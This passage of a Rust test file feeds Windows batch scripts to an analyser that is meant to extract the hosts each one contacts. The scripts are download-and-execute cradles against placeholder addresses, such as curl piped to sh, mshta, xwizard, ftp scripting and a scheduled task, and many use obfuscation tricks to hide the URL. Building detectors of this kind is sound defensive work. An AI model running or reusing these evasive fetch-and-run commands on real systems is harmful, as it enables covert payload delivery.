        &["ftp://ftp.example.com/up/"],
    ),
    (
        "@echo off\nC:\\Windows\\System32\\IME\\SHARED\\IMEWDBLD.exe http://192.0.2.142/a\n",
        &["http://192.0.2.142/a"],
    ),
    (
        "@echo off\necho user x y> a\necho lcd %temp%>>a\necho cd dir>>a\necho get a.bin>>a\necho bye>>a\nftp -i -n -s:\"a\" 192.0.2.143\n",
        &["ftp://192.0.2.143/dir/a.bin"],
    ),
    (
        "@echo off\nDataSvcUtil /out:C:\\Windows\\win.ini /uri:https://192.0.2.144/u\n",
        &["https://192.0.2.144/u"],
    ),
    (
        "@echo off\nProtocolHandler.exe https://192.0.2.145/d.docx\n",
        &["https://192.0.2.145/d.docx"],
    ),
    (
        "@echo off\n\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" \"http://192.0.2.146/a.dotm\"\n",
        &["http://192.0.2.146/a.dotm"],
    ),
    (
        "@echo off\nxwizard RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /zhttps://192.0.2.147/x\n",
        &["https://192.0.2.147/x"],
    ),
    (
        "@echo off\n%LocalAppData%\\Microsoft\\Teams\\Update.exe --update=https://192.0.2.148/pkg\n",
        &["https://192.0.2.148/pkg"],
    ),
    ("@echo off\nUpdate.exe --download https://192.0.2.149/pkg\n", &["https://192.0.2.149/pkg"]),
    (
        "@echo off\ncloudflared.exe access tcp --hostname https://t.example.com --url localhost:3389\n",
        &["https://t.example.com"],
    ),
    ("@echo off\nbash -c \"curl http://192.0.2.150/a.sh | sh\"\n", &["http://192.0.2.150/a.sh"]),
    ("@echo off\nwsl -e bash -c \"wget http://192.0.2.151/a.sh\"\n", &["http://192.0.2.151/a.sh"]),
    (
        "@echo off\n(echo [InternetShortcut]\necho URL=http://192.0.2.153/x.exe)>\"%userprofile%\\Desktop\\x.url\"\nstart \"\" \"%userprofile%\\Desktop\\x.url\"\n",
        &["http://192.0.2.153/x.exe"],
    ),
    (
        "@echo off\npowershell -c \"104,116,116,112,58,47,47,49,57,50,46,48,46,50,46,49,53,53,47,113|%%{$s+=[char]$_};iwr $s\"\n",
        &["http://192.0.2.155/q"],
    ),
    (
        "@echo off\nset l=two\ngoto %l%\n:one\nexit\n:two\ncurl http://192.0.2.156/q\n",
        &["http://192.0.2.156/q"],
    ),
    (
        "@echo off\nif exist \"%temp%\\lock.txt\" exit /b\ncurl http://192.0.2.157/q\nexit /b\n",
        &["http://192.0.2.157/q"],
    ),
    (
        "@echo off\ncall :j h t t p : / / 1 9 2 . 0 . 2 . 1 / a\ncurl %u%\nexit /b\n:j\nset u=\n:k\nif \"%~1\"==\"\" exit /b\nset u=%u%%~1\nshift\ngoto k\n",
        &["http://192.0.2.1/a"],
    ),
    (
        "@echo off\n(echo http://192.0.2.2/&echo b)>q.txt\n(set /p a=&set /p b=)<q.txt\ncurl %a%%b%\n",
        &["http://192.0.2.2/b"],
    ),
    (
        "@echo off\nreg add HKCU\\Software\\Zed /v U /t REG_SZ /d http://192.0.2.3/c /f >nul\nfor /f \"tokens=2*\" %%a in ('reg query HKCU\\Software\\Zed /v U') do set u=%%b\ncurl -o x %u%\n",
        &["http://192.0.2.3/c"],
    ),
    (
        "@echo off\nset h=192.0.2.4\n>k.cfg echo url = \"http://%h%/d\"\n>>k.cfg echo output = \"d.exe\"\ncurl -s -K k.cfg\n",
        &["http://192.0.2.4/d"],
    ),
    (
        "@echo off\nset /a a=0xC0, b=3-3, c=1+1, d=10/2\ncurl http://%a%.%b%.%c%.%d%/e\n",
        &["http://192.0.2.5/e"],
    ),
    (
        "@echo off\nforfiles /p %windir% /m notepad.exe /c \"cmd /c curl 0x68ttp://192.0.2.6/f\"\n",
        &["http://192.0.2.6/f"],
    ),
    (
        "@echo off\nfor /f \"tokens=1* delims=:\" %%a in ('findstr /n /b \"#:\" \"%~f0\"') do for /f \"tokens=2 delims=|\" %%c in (\"%%b\") do set u=%%c\ncurl http://%u%/g\nexit /b\n#:x|192.0.2.7\n",
        &["http://192.0.2.7/g"],
    ),
    (
        "@echo off\necho|set /p=\"curl http://192.0.2\">x.cmd\necho .8/h>>x.cmd\ncall x.cmd\n",
        &["http://192.0.2.8/h"],
    ),
    (
        "@echo off\nset k=http://192.0.2.9/i\nfor /f \"delims=\" %%a in ('cmd /v:on /c \"echo ^!k^!\"') do curl %%a\n",
        &["http://192.0.2.9/i"],
    ),
    ("@echo off\nset s=garbage###http://192.0.2.10/j\ncurl %s:*###=%\n", &["http://192.0.2.10/j"]),
    (
        "@echo off\nset n=3\nif %n%==1 (set p=x) else if %n%==2 (set p=y) else (set p=k)\ncurl http://192.0.2.11/%p%\n",
        &["http://192.0.2.11/k"],
    ),
    (
        "@echo off\n>e.vbs echo WScript.Echo Replace(\"hXXp://192.0.2.12/l\",\"XX\",\"tt\")\nfor /f %%u in ('cscript //nologo e.vbs') do curl %%u\n",
        &["http://192.0.2.12/l"],
    ),
    (
        "@echo off\n>e.js echo WScript.Echo(\"ht\"+\"tp://192.0.2.13/m\");\nfor /f \"delims=\" %%u in ('cscript //nologo //e:jscript e.js') do set u=%%u\ncurl %u%\n",
        &["http://192.0.2.13/m"],
    ),
    (
        "@echo off\nmshta \"javascript:var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c curl http://192.0'+'.2.14/n',0);close();\"\n",
        &["http://192.0.2.14/n"],
    ),
    (
        "@echo off\npowershell -nop -c \"'curl http://192.0' + '.2.15/o'\" > %temp%\\z.cmd\ncall %temp%\\z.cmd\n",
        &["http://192.0.2.15/o"],
    ),
    (
        "@echo off\npowershell -nop -c \"Set-Content -Path $env:TEMP\\y.bat -Value ('curl http://192.0'+'.2.16/p')\"\ncall %TEMP%\\y.bat\n",
        &["http://192.0.2.16/p"],
    ),
    (
        "@echo off\n>a.1 <nul set /p =curl http://192.0\n>a.2 echo .2.17/q\ncopy /b a.1+a.2 a.cmd >nul\na.cmd\n",
        &["http://192.0.2.17/q"],
    ),
    ("@echo off\nnslookup ns.example.com 192.0.2.18\n", &["ns.example.com", "192.0.2.18:53"]),
    (
        "@echo off\n(\necho ^<?xml version=\"1.0\"?^>\necho ^<Task^>^<Actions^>^<Exec^>^<Command^>mshta^</Command^>^<Arguments^>http://192.0.2.19/r^</Arguments^>^</Exec^>^</Actions^>^</Task^>\n)>t.xml\nschtasks /create /tn x /xml t.xml\n",
        &["http://192.0.2.19/r"],
    ),
    (
        "@echo off\ngoto :a%random:~0,0%b\n:zz\nexit\n:ab\ncurl http://192.0.2.20/s\n",
        &["http://192.0.2.20/s"],
    ),
    (
        "@echo off\n::comment\n:: curl http://192.0.2.99/x\nrem & curl http://192.0.2.98/y\ncurl http://192.0.2.21/t\n",
        &["http://192.0.2.21/t"],
    ),
    (
        "@echo off\nset P=%ProgramFiles:~0,3%Windows\\System32\nstart \"\" \"%P%\\mshta.exe\" \"http://192.0.2.22/u\"\n",
        &["http://192.0.2.22/u"],
    ),
    (
        "@echo off\nsetlocal EnableDelayedExpansion\nif 1==1 (\n  set a=http://\n  set b=192.0.2.23/v\n  curl !a!!b!\n)\n",
        &["http://192.0.2.23/v"],
    ),
    (
        "@echo off\nsetlocal EnableDelayedExpansion\nset s=hxtxtxpx:x/x/x1x9x2x.x0x.x2x.x2x4x/xw\nset r=\nfor /l %%i in (0,2,60) do set r=!r!!s:~%%i,1!\ncurl !r!\n",
        &["http://192.0.2.24/w"],
    ),
    (
        "@echo off\nsetlocal EnableDelayedExpansion\nset m68=h& set m74=t& set m70=p& set m3a=:& set m2f=/\nset o=\nfor %%h in (68 74 74 70 3a 2f 2f) do set o=!o!!m%%h!\ncurl %o%192.0.2.25/x\n",
        &["http://192.0.2.25/x"],
    ),
    (
        "@echo off\nset w1=http&set w2=://192&set w3=.0.2.26/y\nset o=\nfor /l %%n in (1,1,3) do call set o=%%o%%%%w%%n%%\ncurl %o%\n",
        &["http://192.0.2.26/y"],
    ),
    (
        "@echo off\n:l\ncurl -s \"https://api.telegram.example/botX/getUpdates\" > r.json\nfindstr /c:\"run\" r.json >nul && call :x\ntimeout /t 5 >nul\ngoto l\n:x\nexit /b\n",
        &["https://api.telegram.example/botX/getUpdates"],
    ),
    (
        "@echo off\n@\"%comspec%\" /d /c \"curl.exe\" -o \"%temp%\\q\" \"http://192.0.2.27/z\"\n",
        &["http://192.0.2.27/z"],
    ),
];

#[test]
fn what_scripts_contact() {
    contacts(FORMS, run);
}
